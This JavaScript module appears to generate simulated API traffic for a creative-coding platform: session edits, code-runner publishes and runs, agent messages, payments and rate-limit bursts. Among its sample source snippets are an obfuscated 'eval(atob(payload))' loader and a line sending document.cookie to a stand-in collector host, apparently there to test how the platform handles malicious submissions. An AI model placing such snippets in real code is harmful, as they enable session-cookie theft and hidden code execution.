import { between, chance, pick, shortId } from "./client.mjs";

const PLANS = ["free", "free", "free", "creator", "pro"];
const SOURCES = [
  "export default function App() { return <h1>hello</h1>; }",
  "const c = document.querySelector('canvas'); requestAnimationFrame(draw);",
  "fetch('/api/scores').then((r) => r.json()).then(render);",
  "localStorage.setItem('best', score);",
  "eval(atob(payload));",
  "new Image().src = 'https://collector.example/?c=' + document.cookie;",
];

/** A session's HTTP life: created, read, edited, sometimes published and remixed. */
export async function sessionLifecycle(client) {
  const invalid = chance(0.03);
  const created = await client.send("session-api", "POST", "/api/sessions", {
    body: chance(0.04)
      ? { tempo: 999 }
      : { source: chance(0.2) ? "import" : "new", tempo: between(70, 170), swing: Math.round(Math.random() * 50) / 100 },
    headers: invalid ? { "x-simulate": "invalid" } : chance(0.02) ? { "x-simulate": "quota" } : {},
  });
  if (!created?.id) return;
  const path = `/api/sessions/${created.id}`;
  await client.send("session-api", "GET", path, { label: "/api/sessions/:id" });
  const tracks = created.tracks.map((t) => ({ ...t, steps: t.steps.map(() => chance(0.3)) }));
  // Now and then a buggy client sends a track twice: the API repairs it (error_invariant).
  if (chance(0.1)) tracks.push({ ...tracks[0] });
  await client.send("session-api", "PUT", path, { label: "/api/sessions/:id", body: { tempo: between(70, 170), tracks } });
  if (chance(0.4)) {
    const published = await client.send("session-api", "POST", `${path}/publish`, { label: "/api/sessions/:id/publish" });
    // Editing a published session is rejected (error_mutation_rejected).
    if (published?.id && chance(0.5))
      await client.send("session-api", "PUT", `/api/sessions/${published.id}`, { label: "/api/sessions/:id", body: { tempo: 100 } });
  }
  if (chance(0.3)) await client.send("session-api", "POST", `${path}/remix`, { label: "/api/sessions/:id/remix" });
  if (chance(0.05)) await client.send("session-api", "GET", `/api/sessions/gone${shortId()}`, { label: "/api/sessions/:id" });
}

/** One client hammering the API past its rate limit (60 per 10 s): error_rate_limit. */
export async function burst(client) {
  for (let i = 0; i < 70; i++) await client.send("session-api", "GET", "/api/sessions/burst-check", { label: "/api/sessions/:id (burst)" });
}

function files() {
  const entry = pick(["index.html", "src/index.jsx", "main.py", "app.js"]);
  const list = [{ path: entry, size: between(200, 40_000) }];
  for (let i = between(0, 12); i > 0; i--)
    list.push({ path: `assets/${shortId()}.${pick(["png", "js", "css", "map"])}`, size: between(100, chance(0.03) ? 3_000_000 : 200_000) });
  return list;
}

/** An author's day at the code runner: imports, publishes, many runs, runtime reports. */
export async function codeRunner(client) {
  const userId = `user_${between(1, 60)}`;
  const plan = pick(PLANS);
  const capsuleId = `cap_${between(1, 25)}`;
  const roll = Math.random();
  if (roll < 0.15) return client.send("code-runner", "POST", "/imports", { body: { userId, plan, files: chance(0.05) ? [] : files() } });
  if (roll < 0.3)
    return client.send("code-runner", "POST", `/capsules/${capsuleId}/publish`, {
      label: "/capsules/:id/publish",
      body: { userId, plan, files: files(), source: pick(SOURCES) },
    });
  if (roll < 0.75) {
    const invalid = chance(0.05);
    return client.send("code-runner", "POST", "/runs", {
      body: { userId, plan, capsuleId, postId: `post_${between(1, 200)}` },
      headers: invalid ? { "x-simulate": "invalid" } : {},
    });
  }
  if (roll < 0.9) {
    const error = chance(0.3);
    return client.send("code-runner", "POST", "/runtime-events", {
      body: {
        event: error ? pick(["runtime_error", "runtime_crash"]) : pick(["runtime_ready", "runtime_resize", "runtime_asset_loaded"]),
        capsuleId,
        code: error ? pick(["E_UNCAUGHT", "E_OOM", "E_TIMEOUT"]) : "",
        message: error ? "Uncaught ReferenceError: score is not defined" : "",
        isError: error,
      },
    });
  }
  if (roll < 0.95) return client.send("code-runner", "POST", "/waitlist", { body: { plan, sessionId: `sess_${shortId()}` } });
  return client.send("code-runner", "GET", "/do-status");
}

/** An agent conversation and the framework work around it. */
export async function doFramework(client) {
  const agent = `/agents/agent-${between(1, 12)}`;
  const roll = Math.random();
  if (roll < 0.45) {
    const turns = between(1, 4);
    for (let i = 0; i < turns; i++) {
      await client.send("do-framework", "POST", `${agent}/messages`, {
        label: "/agents/:id/messages",
        body: { text: pick(["where is my order?", "summarise this thread", "book a call for tomorrow", "translate to french"]) },
        headers: chance(0.04) ? { "x-simulate": "invalid" } : {},
      });
    }
    return;
  }
  if (roll < 0.6) return client.send("do-framework", "POST", `${agent}/workflows`, { label: "/agents/:id/workflows", body: {} });
  if (roll < 0.7)
    return client.send("do-framework", "POST", `${agent}/execute`, {
      label: "/agents/:id/execute",
      body: { language: pick(["javascript", "python", "sql"]) },
    });
  if (roll < 0.76) return client.send("do-framework", "POST", `${agent}/schedule`, { label: "/agents/:id/schedule", body: {} });
  if (roll < 0.8) return client.send("do-framework", "POST", `${agent}/hibernate`, { label: "/agents/:id/hibernate", body: {} });
  if (roll < 0.82) return client.send("do-framework", "DELETE", agent, { label: "/agents/:id" });
  if (roll < 0.88)
    return client.send("do-framework", "POST", pick(["/payments", "/transfers"]), { body: { amount: between(100, 50_000) / 100 } });
  if (roll < 0.95) return client.send("do-framework", "POST", "/notify", { body: { channel: pick(["email", "slack", "sms"]) } });
  return client.send("do-framework", "POST", "/calls", { body: { seconds: between(5, 900) } });
}

/** One monitoring round on demand (the cron runs one a minute as well). */
export async function uptimeRound(client) {
  return client.send("uptime-monitor", "POST", "/run", { headers: chance(0.2) ? { "x-simulate": "invalid" } : {} });
}

/** A WebSocket to an agent, held briefly: Connection.WebSocket.opened / closed. */
export async function agentSocket(client) {
  if (!client.budget.take()) return;
  const ws = new WebSocket(client.url("do-framework", `/agents/agent-${between(1, 12)}/ws`, "ws"));
  const opened = await new Promise((resolve) => {
    ws.addEventListener("open", () => resolve(true), { once: true });
    ws.addEventListener("error", () => resolve(false), { once: true });
    setTimeout(() => resolve(false), 5_000);
  });
  client.tally.count("do-framework WS connect", opened ? "open" : "refused");
  if (!opened) return;
  ws.send("ping");
  await new Promise((resolve) => setTimeout(resolve, between(200, 1500)));
  ws.close(1000, "done");
}
